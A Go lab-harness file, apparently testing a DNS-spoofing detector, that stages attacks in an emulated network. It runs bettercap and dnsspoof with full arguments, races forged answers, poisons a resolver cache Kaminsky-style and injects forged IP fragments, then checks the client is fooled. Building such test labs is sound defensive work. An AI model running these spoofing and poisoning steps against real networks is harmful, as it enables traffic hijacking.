//go:build lab

package lab

import (
	"errors"
	"fmt"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/dnstaster/dnstaster/lab/inject"
	"github.com/dnstaster/dnstaster/lab/world"
)

// addrs reads addresses.
func addrs(texts ...string) (as []netip.Addr) {
	for _, t := range texts {
		as = append(as, netip.MustParseAddr(t))
	}
	return as
}

// port53 is where a server answers.
func port53(addr string) netip.AddrPort { return netip.MustParseAddrPort(addr + ":53") }

// slow has the router hold back every answer to a datagram for a while, its own
// and those of the public resolvers: a forgery then comes first, as it does where
// the resolver is far away. Its dnsmasq and their caches stay what they are.
func slow(d time.Duration) Cause {
	return via(0, func(target netip.AddrPort) inject.Handler { return inject.Delay(d, inject.Forward(target)) })
}

// via has datagrams to the resolvers go through servers of ours on the router,
// which see where each was sent. Of two such causes the higher order wins.
func via(order int, h func(target netip.AddrPort) inject.Handler) Cause {
	return func(r *Run) (world.Undo, error) {
		var us []world.Undo
		rules := ""
		for n, target := range []string{world.RouterAddr, world.Pub1Addr, world.Pub2Addr, world.Pub3Addr, world.Pub4Addr} {
			port := 5300 + 10*order + n
			u, err := serve("router", fmt.Sprintf("%s:%d", world.RouterAddr, port), func(*Run) inject.Handler { return h(port53(target)) })(r)
			if err != nil {
				return world.All(us...), err
			}
			us = append(us, u)
			rules += fmt.Sprintf("iifname \"lan0\" ip daddr %s udp dport 53 redirect to :%d; ", target, port)
		}
		u, err := r.w.Host("router").NFT("ip", fmt.Sprintf("chain pre { type nat hook prerouting priority %d; %s }", -100-order, rules))
		if err != nil {
			return world.All(us...), err
		}
		return world.All(append(us, u)...), nil
	}
}

// substitute has servers of ours, on the router, answer for a name in the place of
// every plain resolver; all else is passed on.
func substitute(name string, h func(honest inject.Handler) inject.Handler) Cause {
	return via(0, func(target netip.AddrPort) inject.Handler {
		honest := inject.Forward(target)
		return inject.Only(name, h(honest), honest)
	})
}

// race has the attacker answer before the genuine server, and waits until it did.
func race(c inject.RaceConfig) Cause {
	return func(r *Run) (world.Undo, error) {
		if len(c.Names) == 0 && c.Contains == "" {
			c.Names = []string{r.name() + "."}
		}
		i, err := inject.Race(r.w.Host("attacker").Do, "eth0", c)
		if err != nil {
			return nil, err
		}
		err = within(10*time.Second, func() error {
			if i.Count() == 0 {
				return errors.New("nothing was forged")
			}
			return nil
		})
		r.mark(i.First())
		return i.Stop, err
	}
}

// believed proves that programs on the client are answered with an address.
func believed(addr string, options ...string) Cause {
	return lasting(func(r *Run) error {
		return within(15*time.Second, func() error {
			got, err := r.w.Client().Dig(world.RouterAddr, r.name(), "A", options...)
			if err == nil && !strings.Contains(got, addr) {
				err = fmt.Errorf("a program is answered %s, not %s", got, addr)
			}
			return err
		})
	})
}

// prompt has every resolver answer at once, whatever else this machine does: a
// forgery that has to lose must not win by the lab's own load.
func prompt(r *Run) (world.Undo, error) {
	for _, s := range []string{"router", "isp", "pub1", "pub2", "pub3", "pub4", "pub4-rec"} {
		if _, err := r.w.Host("router").Run("chrt", "--all-tasks", "--rr", "--pid", "10", strconv.Itoa(r.w.Service(s).Process().Pid())); err != nil {
			return nil, err
		}
	}
	return world.Nothing, nil
}

// bettercap spoofs a name on a shared medium, whomever the frames are for. idle
// has it run only when nobody else wants to, so that it comes late.
func bettercap(idle bool) Cause {
	return func(r *Run) (world.Undo, error) {
		argv := []string{"bettercap", "-iface", "eth0", "-gateway-override", world.RouterAddr, "-no-colors", "-no-history", "-eval",
			"set dns.spoof.domains " + r.name() + "; set dns.spoof.address " + world.EvilAddr + "; set dns.spoof.all true; set dns.spoof.ttl 1024; dns.spoof on"}
		if idle {
			argv = append([]string{"chrt", "--idle", "0"}, argv...)
		}
		p, err := r.w.Host("attacker").Start("bettercap", argv[0], argv[1:]...)
		if err != nil {
			return nil, err
		}
		// It says that it is on before it listens. Its first forgery is in its log.
		err = p.Logged("sending spoofed DNS reply")
		r.mark(time.Now())
		return p.Stop, err
	}
}

// dnsspoof is dsniff's. It answers only queries without EDNS.
func dnsspoof(names ...string) Cause {
	return func(r *Run) (world.Undo, error) {
		hosts := r.w.Path("conf", "dnsspoof")
		text := ""
		for _, n := range names {
			text += world.EvilAddr + "\t" + n + "\n"
		}
		if err := os.WriteFile(hosts, []byte(text), 0o644); err != nil {
			return nil, err
		}
		p, err := r.w.Host("attacker").Start("dnsspoof", "dnsspoof", "-i", "eth0", "-f", hosts, "udp dst port 53 and src "+world.ClientAddr)
		if err != nil {
			return nil, err
		}
		err = p.Logged("listening on")
		r.mark(time.Now())
		return p.Stop, err
	}
}

// launched makes a cause of an injector that ends by itself.
func launched(start func(r *Run) (*inject.Injector, error)) Cause {
	return func(r *Run) (world.Undo, error) {
		i, err := start(r)
		if err != nil {
			return nil, err
		}
		err = within(5*time.Second, func() error {
			if i.Count() == 0 {
				return errors.Join(errors.New("nothing was sent"), i.Err())
			}
			return nil
		})
		r.mark(i.First())
		return i.Stop, err
	}
}

// crowd gives the attacker's web server addresses in twenty networks.
func crowd(r *Run) (world.Undo, error) {
	var us []world.Undo
	for _, a := range crowded() {
		u, err := r.w.Host("evil").IP(fmt.Sprintf("addr add %s/32 dev lo", a), fmt.Sprintf("addr del %s/32 dev lo", a))
		if err != nil {
			return world.All(us...), err
		}
		us = append(us, u)
	}
	u, err := r.w.Host("inet").IP("route add 198.19.0.0/16 via "+world.EvilAddr, "route del 198.19.0.0/16")
	if err != nil {
		return world.All(us...), err
	}
	return world.All(append(us, u)...), nil
}

func crowded() (as []netip.Addr) {
	for n := range 20 {
		as = append(as, netip.AddrFrom4([4]byte{198, 19, byte(n + 1), 66}))
	}
	return as
}

// kaminsky poisons the router's cache without seeing a packet of it: all its
// queries leave from one port, and the attacker guesses the ID. The provider's
// resolver is held meanwhile: that stands for as many rounds as it takes to win
// against it.
func kaminsky(r *Run) (world.Undo, error) {
	thaw, err := r.w.Service("isp").Freeze()
	if err != nil {
		return nil, err
	}
	fresh := func() error { return r.w.Service("router").Process().Signal(hangup) }
	err = within(20*time.Second, func() error {
		if err := fresh(); err != nil {
			return world.Stop(err)
		}
		i, err := inject.Kaminsky(r.w.Host("attacker").Do, inject.KaminskyConfig{
			Resolver: netip.MustParseAddr(world.RouterAddr), Port: 33333, Server: netip.MustParseAddr(world.ISPAddr),
			Name: r.name(), Address: netip.MustParseAddr(world.EvilAddr), TTL: 3600, Rounds: 1, Rate: 40_000,
		})
		if err != nil {
			return world.Stop(err)
		}
		r.mark(time.Now())
		if err := i.Wait(); err != nil {
			return world.Stop(err)
		}
		got, err := r.w.Client().Dig(world.RouterAddr, r.name(), "A", "+time=1")
		if err == nil && got != world.EvilAddr {
			err = fmt.Errorf("the router says %s: it is not poisoned", got)
		}
		return err
	})
	return fresh, errors.Join(err, thaw())
}

// spoofing proves that a tool is at work: it answers for a name that is not
// watched, without EDNS.
func spoofing(name string) func(r *Run) error {
	return func(r *Run) error {
		return within(10*time.Second, func() error {
			got, err := r.w.Client().Dig(world.RouterAddr, name, "A", "+noedns")
			if err == nil && got != world.EvilAddr {
				err = fmt.Errorf("%s is %s: nobody spoofs", name, got)
			}
			return err
		})
	}
}

// eitherRule holds that one of some rules is among the reasons.
func eitherRule(rules ...string) func(r *Run) error {
	return func(r *Run) error {
		for _, x := range r.rules {
			for _, y := range rules {
				if x == y {
					return nil
				}
			}
		}
		return fmt.Errorf("none of %v is among the reasons", rules)
	}
}

// fragments plants forged second fragments with this host, for every IP
// identification: who knows which one is next needs but one.
func fragments(r *Run) (world.Undo, error) {
	hold := "echo 268435456 >/proc/sys/net/ipv4/ipfrag_high_thresh; echo 0 >/proc/sys/net/ipv4/ipfrag_max_dist"
	if _, err := r.w.Client().Run("sh", "-c", hold); err != nil {
		return nil, err
	}
	i, err := inject.Fragments(r.w.Host("attacker").Do, inject.FragmentConfig{
		Server: netip.MustParseAddr(world.RouterAddr), Client: netip.MustParseAddr(world.ClientAddr), Name: r.name(),
		Old: netip.MustParseAddr("198.18.61.97"), New: netip.MustParseAddr(world.EvilAddr), IDs: 1 << 16, Rate: 50_000,
	})
	if err != nil {
		return nil, err
	}
	err = i.Wait()
	r.mark(i.First())
	return i.Stop, err
}
